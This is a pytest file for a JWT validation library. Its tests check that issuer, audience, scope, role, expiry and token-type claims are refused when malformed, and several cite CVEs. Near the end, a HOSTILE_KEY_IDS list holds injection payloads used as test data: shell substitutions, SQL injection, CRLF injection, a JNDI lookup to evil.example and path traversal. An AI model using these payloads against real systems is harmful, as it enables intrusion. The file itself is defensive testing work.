"""
Group C: claims.
"""

import re
from typing import Any

import pytest
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from guardrail import Issuer, Operator, ServicePackage, current_operator
from guardrail.errors import PolicyError
from guardrail.events import TokenRefused
from guardrail.testing import FakeIssuer

from .kit import (
    AUDIENCE,
    METADATA_URL,
    NOW,
    SCOPE,
    URL,
    Api,
    Clock,
    api,
    claims_of,
    compact,
    cost_of,
    cost_of_a_forgery,
    endpoint,
    guard,
    header_of,
    naming,
    new_issuer,
    package,
)

pytestmark = pytest.mark.anyio

BILLING = "https://api.example.com/billing"


async def refuses_claims(guarded: Api, fake: FakeIssuer, *cases: dict[str, Any], **expected: Any) -> None:
    """
    Tokens that are good but for these claims are refused.
    """
    for claims in cases:
        with naming(repr(claims)):
            await guarded.refuses(fake.token(**{"scope": SCOPE} | claims), **expected)


async def test_c01_ghsa_75c5_xw7c_p5pm_part_of_the_issuer() -> None:
    """
    The issuer is compared whole: no part of it and nothing around it passes (CVE-2024-53861).
    """
    fake = new_issuer()
    parts = (URL[:-1], URL[1:], URL[8:], "h", "", "https://", ".", f"{URL}.evil.example", f"x{URL}", URL * 2)

    await refuses_claims(api(fake), fake, *({"iss": part} for part in parts), code="unknown_issuer")


async def test_c02_list_of_issuers() -> None:
    """
    An array of issuers is no issuer, even if ours is in it (fast-jwt).
    """
    fake = new_issuer()
    lists = (["https://evil.example", URL], [URL], [URL, URL], [[URL]], {URL: URL})

    await refuses_claims(api(fake), fake, *({"iss": one} for one in lists))


async def test_c03_cve_2020_26160_list_valued_audience() -> None:
    """
    An audience that is an array must name us with one of its strings.
    """
    fake = new_issuer()
    guarded = api(fake)
    wrong: tuple[object, ...] = (
        ["other"], [], [None], [[AUDIENCE]], {"0": AUDIENCE}, [""], "", [AUDIENCE, None], [AUDIENCE, 1],
        {AUDIENCE: True}, [{"value": AUDIENCE}],
    )  # fmt: skip

    await refuses_claims(guarded, fake, *({"aud": one} for one in wrong))
    await guarded.accepts(fake.token(scope=SCOPE, aud=[AUDIENCE]))


async def test_c04_audience_as_a_substring() -> None:
    """
    An audience that contains ours, or is contained in it, is another one.
    """
    fake = new_issuer()
    guarded = api(fake, package_settings={"audience": "api"}, good=lambda: fake.token(scope=SCOPE, aud="api"))
    others = ("not-my-api-at-all", "ap", "a", "API", "api ", " api", "api,other", "api other", "api/", "apis")

    await refuses_claims(guarded, fake, *({"aud": one} for one in others), code="audience_mismatch")
    await refuses_claims(guarded, fake, {"aud": list(others)}, code="audience_mismatch")


async def test_c05_audience_not_checked() -> None:
    """
    A token of the right issuer for another resource, or for none, opens no route of any requirement.
    """
    fake, ran = new_issuer(), list[str]()
    orders = package(fake)
    requirements = (orders.requires(), orders.requires(SCOPE), orders.requires_any(SCOPE, "orders:audit"))
    routes = [
        Route(path, requirement(endpoint(ran)))
        for path, requirement in zip(("/orders", "/b", "/c"), requirements, strict=True)
    ]
    guarded = guard(routes, fake, ran)

    for target in ("/orders", "/b", "/c"):
        await refuses_claims(guarded, fake, {"aud": BILLING}, target=target, code="audience_mismatch")
        await refuses_claims(guarded, fake, {"aud": None}, target=target, code="claim_missing")
        await guarded.accepts(target=target)


async def test_c06_ghsa_p2fr_6hmx_4528_our_audience_and_a_foreign_one() -> None:
    """
    A token for us and another resource is for us (RFC 7519 §4.1.3); one for others only is not.
    """
    fake = new_issuer()
    guarded = api(fake)

    await guarded.accepts(fake.token(scope=SCOPE, aud=[AUDIENCE, BILLING]))
    await refuses_claims(
        guarded, fake, {"aud": [BILLING, "https://api.example.com"]}, code="audience_mismatch"
    )


async def test_c07_cve_2025_69196_bound_to_the_host_and_not_to_the_resource() -> None:
    """
    Two packages under one host keep to their own audiences, remembered tokens included.
    """
    fake, ran = new_issuer(), list[str]()
    orders = package(fake)
    billing = package(fake, name="billing", audience=BILLING)
    routes = [
        Route("/orders", orders.requires(SCOPE)(endpoint(ran))),
        Route("/billing", billing.requires(SCOPE)(endpoint(ran))),
    ]
    guarded = guard(routes, fake, ran)
    for_billing = fake.token(scope=SCOPE, aud=BILLING)
    for_the_host = fake.token(scope=SCOPE, aud="https://api.example.com")

    await guarded.accepts(for_billing, target="/billing")
    await guarded.refuses(for_billing, code="audience_mismatch")
    await guarded.refuses(for_the_host, code="audience_mismatch")
    answer = await guarded.send(guarded.good(), target="/billing")
    assert (answer.status, answer.challenge["realm"]) == (401, "billing")


async def test_c08_audience_at_a_server_guarded_by_prefix() -> None:
    """
    A server that is no framework of ours checks the resource like any other (MCP Python SDK #1443).
    """
    fake, ran = new_issuer(), list[str]()

    async def mcp(scope: Any, receive: Any, send: Any) -> None:
        ran.append(current_operator().operator_id)
        await JSONResponse({})(scope, receive, send)

    guarded = guard(mcp, fake, ran, prefixes={"/orders": package(fake).requires(SCOPE)})

    await refuses_claims(guarded, fake, {"aud": BILLING}, code="audience_mismatch")
    await refuses_claims(guarded, fake, {"aud": BILLING}, target="/orders/tools", code="audience_mismatch")
    await guarded.accepts(target="/orders/tools")


async def test_c09_cve_2026_22748_issuer_not_checked_by_default() -> None:
    """
    With nothing set but its URL, an issuer's tokens must name it, whoever's keys are at the same host.
    """
    fake = new_issuer(f"{URL}/tenant-a")
    guarded = api(fake)
    others = (
        f"{URL}/tenant-b",
        URL,
        f"{URL}/",
        f"{URL}/tenant-a/",
        f"{URL}/tenant-A",
        f"{URL}/tenant-a/../tenant-a",
    )

    await refuses_claims(guarded, fake, *({"iss": one} for one in others), code="unknown_issuer")
    await refuses_claims(guarded, fake, {"iss": None}, code="unknown_issuer")


async def test_c10_cve_2026_35041_pattern_for_claims() -> None:
    """
    Issuers and audiences are strings and never patterns: a crafted claim costs nothing, and the same token
    always gets the same answer.
    """
    fake = new_issuer()
    guarded = api(fake)
    crafted = fake.token(scope=SCOPE, aud="a" * 8_000 + "!")

    for setting in ("issuer", "audience"):
        settings: dict[str, Any] = {"issuer": URL, "audience": AUDIENCE} | {setting: re.compile("(a+)+$")}
        with pytest.raises(PolicyError):
            ServicePackage("orders", **settings)
    await guarded.refuses(crafted, code="audience_mismatch")
    assert await cost_of(guarded.app, crafted) < 10 * await cost_of_a_forgery()
    answers = {repr(await guarded.send(crafted)) for _ in range(100)}
    token = guarded.good()
    statuses = {(await guarded.send(token)).status for _ in range(100)}
    assert (len(answers), statuses) == (1, {200})


OTHER_KINDS: list[Any] = [
    pytest.param({}, {"nonce": "n-0S6"}, id="ID token"),
    pytest.param({}, {"at_hash": "x"}, id="ID token with at_hash"),
    pytest.param({}, {"c_hash": "x"}, id="ID token with c_hash"),
    pytest.param({}, {"token_use": "id"}, id="Cognito's ID token"),
    pytest.param({}, {"typ": "ID"}, id="Keycloak's ID token"),
    pytest.param({}, {"typ": "Refresh"}, id="Keycloak's refresh token"),
    pytest.param({"typ": "logout+jwt"}, {}, id="logout token"),
    pytest.param(
        {}, {"events": {"http://schemas.openid.net/event/backchannel-logout": {}}}, id="untyped logout"
    ),
    pytest.param({"typ": "client-authentication+jwt"}, {}, id="client assertion"),
    pytest.param({"typ": "oauth-authz-req+jwt"}, {}, id="request object"),
    pytest.param({"typ": "secevent+jwt"}, {"events": {}}, id="security event"),
    pytest.param({"typ": "statuslist+jwt"}, {"status_list": {}}, id="status list"),
    pytest.param({"typ": "token-introspection+jwt"}, {"token_introspection": {}}, id="introspection"),
    pytest.param({"typ": "dpop+jwt"}, {"htm": "GET", "htu": "https://x"}, id="DPoP proof"),
    pytest.param({"typ": "txn_token"}, {}, id="transaction token"),
    pytest.param({"typ": "txntoken+jwt"}, {}, id="transaction token, by its media type"),
]


@pytest.mark.parametrize(("header", "claims"), OTHER_KINDS)
async def test_c11_another_kind_of_jwt(header: dict[str, Any], claims: dict[str, Any]) -> None:
    """
    What the issuer signed for another purpose is no access token, though issuer, audience and times fit.
    """
    fake = new_issuer()

    await api(fake).refuses(fake.token(scope=SCOPE, headers=header, **claims))


async def test_c12_client_with_the_name_of_a_user() -> None:
    """
    A client that acts as itself is a service, whatever it is called; the user of that name is a user.
    """
    fake, seen = new_issuer(), list[Operator]()

    async def read_orders(request: Request) -> Response:
        seen.append(current_operator())
        return JSONResponse({})

    requirement = package(fake).requires(SCOPE, roles=["reader"])
    guarded = guard([Route("/orders", requirement(read_orders))], fake, [])
    as_itself: dict[str, Any] = {"sub": "alice", "client_id": "alice"}

    await guarded.send(fake.token(scope=SCOPE, roles=["reader"], client_id="web"))
    await guarded.send(fake.token(scope=SCOPE, roles=["reader"], **as_itself))
    refused = await guarded.send(fake.token(scope=SCOPE, **as_itself))

    assert [(one.kind, one.subject) for one in seen] == [("user", "alice"), ("service", "alice")]
    assert (refused.status, refused.challenge) == (
        403,
        {"realm": "orders", "resource_metadata": METADATA_URL},
    )


async def test_c13_same_subject_at_two_issuers() -> None:
    """
    A subject is unique within its issuer, and the operator's key has both.
    """
    fake, other = new_issuer(), new_issuer("https://partner.example.org")
    guarded = api(fake, issuers=[fake.issuer, other.issuer])

    ours = await guarded.accepts(fake.token(scope=SCOPE))
    theirs = await guarded.accepts(other.token(scope=SCOPE))

    assert ours.body == b'{"operator":"https://login.example.com#alice"}'
    assert theirs.body == b'{"operator":"https://partner.example.org#alice"}'


async def test_c14_tenant_in_a_template() -> None:
    """
    An issuer is one issuer: a template is compared as it stands, and opens no tenant.
    """
    fake = new_issuer(f"{URL}/tenant-a/v2.0")
    guarded = api(fake)
    others = (f"{URL}/tenant-b/v2.0", f"{URL}/{{tenantid}}/v2.0", f"{URL}/common/v2.0", f"{URL}/*/v2.0")

    await refuses_claims(guarded, fake, *({"iss": one} for one in others), code="unknown_issuer")
    for template in (f"{URL}/{{tenantid}}/v2.0", f"{URL}/*/v2.0"):
        try:
            issuer = Issuer(template, keys=fake.keys.jwks())
        except PolicyError:
            continue
        spelled = api(fake, issuers=[issuer], good=lambda url=template: fake.token(scope=SCOPE, iss=url))  # type: ignore[misc]  # mypy cannot infer a lambda with a default
        await refuses_claims(spelled, fake, {"iss": fake.url}, code="unknown_issuer")


async def test_c15_two_issuers_with_the_same_keys() -> None:
    """
    Where two issuers share a JWK Set, *iss* decides, for each package on its own ("ALBeast").
    """
    fake, ran = new_issuer(), list[str]()
    other_url = "https://other.example.net"
    keys = fake.keys.jwks()
    orders = package(issuer=Issuer(URL, keys=keys))
    billing = package(name="billing", issuer=Issuer(other_url, keys=keys))
    routes = [
        Route("/orders", orders.requires(SCOPE)(endpoint(ran))),
        Route("/billing", billing.requires(SCOPE)(endpoint(ran))),
    ]
    guarded = guard(routes, fake, ran)
    theirs = fake.token(scope=SCOPE, iss=other_url)

    await guarded.accepts(theirs, target="/billing")
    await guarded.refuses(theirs, code="unknown_issuer")
    assert (await guarded.send(guarded.good(), target="/billing")).status == 401


@pytest.mark.parametrize(
    ("leeway", "late", "status"),
    [
        pytest.param(0.0, -1.0, 200, id="one second to go"),
        pytest.param(0.0, 0.0, 401, id="at the expiry"),
        pytest.param(30.0, 29.0, 200, id="just within the leeway"),
        pytest.param(30.0, 30.0, 401, id="at the end of the leeway"),
        pytest.param(30.0, 45.0, 401, id="within the leeway twice"),
    ],
)
async def test_c16_at_the_expiry(leeway: float, late: float, status: int) -> None:
    """
    A token ends with its *exp* and the leeway, once, whether it was remembered or not.
    """
    fake, clock = new_issuer(), Clock()
    issuer = Issuer(URL, keys=fake.keys.jwks(), leeway=leeway)
    remembered, fresh = (fake.token(scope=SCOPE, exp=int(NOW) + 600) for _ in range(2))
    guarded = api(fake, issuers=[issuer], clock=clock)
    await guarded.accepts(remembered)

    clock.now = NOW + 600 + late
    answers = [await guarded.send(one) for one in (remembered, fresh, remembered)]

    assert [answer.status for answer in answers] == [status] * 3
    assert guarded.ran == ["/orders"] * (4 if status == 200 else 1)


@pytest.mark.parametrize("claim", ["iat", "nbf"])
async def test_c17_token_from_the_future(claim: str) -> None:
    """
    A token of an hour ahead is refused; the clocks of two machines may differ by the leeway.
    """
    fake = new_issuer()
    guarded, sign = api(fake), fake.keys.current.sign

    for ahead in (5, 30):
        await guarded.accepts(compact(header_of(fake.keys), claims_of(URL, **{claim: NOW + ahead}), sign))
    await refuses_claims(guarded, fake, {claim: NOW + 3600}, {claim: NOW + 31}, code="token_not_yet_valid")


async def test_c18_scope_that_contains_the_scope() -> None:
    """
    Scopes are whole, case-sensitive words between spaces; a scope claim of another shape refuses the token.
    """
    fake = new_issuer()
    requirement = package(fake).requires("read")
    ran: list[str] = []
    guarded = guard(
        [Route("/orders", requirement(endpoint(ran)))], fake, ran, good=lambda: fake.token(scope="write read")
    )
    others: tuple[object, ...] = (
        "reader", "read:all", "READ", "no-read", "read,write", "read\twrite", "read\nwrite", "rea d", "", "*",
        "read\u00a0write", "re\u0430d", ["read write"], ["READ"], [], ["reader", "no-read"],
    )  # fmt: skip

    for scope in others:
        await refuses_claims(guarded, fake, {"scope": scope}, status=403, error="insufficient_scope")
    await refuses_claims(guarded, fake, {"scope": None}, status=403, error="insufficient_scope")
    await refuses_claims(guarded, fake, {"scope": {"read": True}}, code="claims_malformed")
    await guarded.accepts(fake.token(scope=None, scp=["read"]))


async def test_c19_role_that_contains_the_role() -> None:
    """
    Roles are whole and case-sensitive; in SCIM's shape the *value* is the role.
    """
    fake = new_issuer()
    guarded = api(
        fake, requirement={"roles": ["admin"]}, good=lambda: fake.token(scope=SCOPE, roles=["admin"])
    )
    others: tuple[object, ...] = (
        "administrator", "Admin", "admin user", ["administrator", "no-admin"], [],
        [{"value": "administrator"}],
    )  # fmt: skip

    for roles in others:
        await refuses_claims(guarded, fake, {"roles": roles}, status=403, error=None, code="role_missing")
    await refuses_claims(guarded, fake, {"roles": [{"display": "admin"}]}, code="claims_malformed")
    for roles in ("admin", [{"value": "admin"}]):
        await guarded.accepts(fake.token(scope=SCOPE, roles=roles))


async def test_c20_actor_inside_the_actor() -> None:
    """
    Who acts, at whatever depth, lends the subject no scope and no role (RFC 8693 §4.1).
    """
    fake = new_issuer()
    powerful = {"sub": "admin", "scope": "orders:write", "roles": ["admin"], "act": {"sub": "root"}}
    guarded = api(
        fake,
        requirement={"roles": ["admin"]},
        good=lambda: fake.token(scope=SCOPE, roles=["admin"], act={"sub": "bob"}),
    )

    await refuses_claims(guarded, fake, {"act": powerful}, status=403, error=None)
    await refuses_claims(guarded, fake, {"act": {"sub": "bob", "act": powerful}}, status=403, error=None)
    answer = await guarded.accepts()
    assert answer.body == b'{"operator":"https://login.example.com#alice"}'


async def test_c22_missing_authentication_taken_for_enough() -> None:
    """
    A step-up needs both facts, in the right type and not from the future (RFC 9470 §6.1).
    """
    fake = new_issuer()
    enough: dict[str, Any] = {"scope": SCOPE, "acr": "urn:mfa", "auth_time": int(NOW) - 60}
    guarded = api(
        fake,
        requirement={"acr_values": ["urn:mfa"], "max_age": 300},
        good=lambda: fake.token(**enough),
    )
    lacking: tuple[dict[str, object], ...] = (
        {"acr": None}, {"auth_time": None}, {"acr": ""}, {"acr": "urn:mfa "}, {"acr": ["urn:mfa"]},
        {"acr": 1},
        {"auth_time": NOW + 3600}, {"auth_time": NOW - 3600}, {"auth_time": str(int(NOW))},
        {"auth_time": True}, {"auth_time": 0},
    )  # fmt: skip

    await refuses_claims(
        guarded, fake, *(enough | one for one in lacking), error="insufficient_user_authentication"
    )


async def test_c23_token_of_an_issuer_trusted_elsewhere() -> None:
    """
    The route's package says whom it trusts; an issuer that another route trusts is none of its own.
    """
    fake, weak, ran = new_issuer(), new_issuer("https://weak.example.org"), list[str]()
    elsewhere = package(weak, name="forum")
    routes = [
        Route("/orders", package(fake).requires(SCOPE)(endpoint(ran))),
        Route("/forum", elsewhere.requires(SCOPE)(endpoint(ran))),
    ]
    guarded = guard(routes, fake, ran)
    cuckoo = weak.token(scope=SCOPE)

    await guarded.accepts(cuckoo, target="/forum")
    await guarded.refuses(cuckoo, code="unknown_issuer")
    await guarded.refuses(weak.token(scope=SCOPE, iss=URL), code="unknown_key")


HOSTILE_KEY_IDS: tuple[object, ...] = (
    "../../../../dev/null", "|id", "$(id)", "' UNION SELECT 'key", "x\r\nX-Injected: y",
    "\x1b[2J\x1b]0;pwned\x07",
    "\u202egnp.exe", "%00", "\0", "{{7*7}}", "${jndi:ldap://evil.example/a}", "a" * 513, "", 1, True, None,
    {}, [],
    {"$ne": ""},
)  # fmt: skip


async def test_c24_cve_2020_7694_key_id_as_an_injection() -> None:
    """
    A key ID is compared and nothing else, and what is told of it is short, printable ASCII.
    """
    fake = new_issuer()
    guarded = api(fake, good=lambda: fake.token(scope=SCOPE))

    for kid in HOSTILE_KEY_IDS:
        with naming(repr(kid)):
            header = header_of(fake.keys) | {"kid": kid}
            await guarded.refuses(compact(header, claims_of(), fake.keys.current.sign))
    await guarded.refuses(
        fake.token(scope=SCOPE, headers={"kid": "k" * 1_000_000}), status=400, error="invalid_request"
    )

    told = [event for event in guarded.heard if isinstance(event, TokenRefused)]
    assert len(told) == len(HOSTILE_KEY_IDS) + 1
    for event in told:
        text = f"{event.kid}{event.detail}{event.claim}"
        assert text.isascii()
        assert text.isprintable()
        assert len(event.kid or "") <= 64
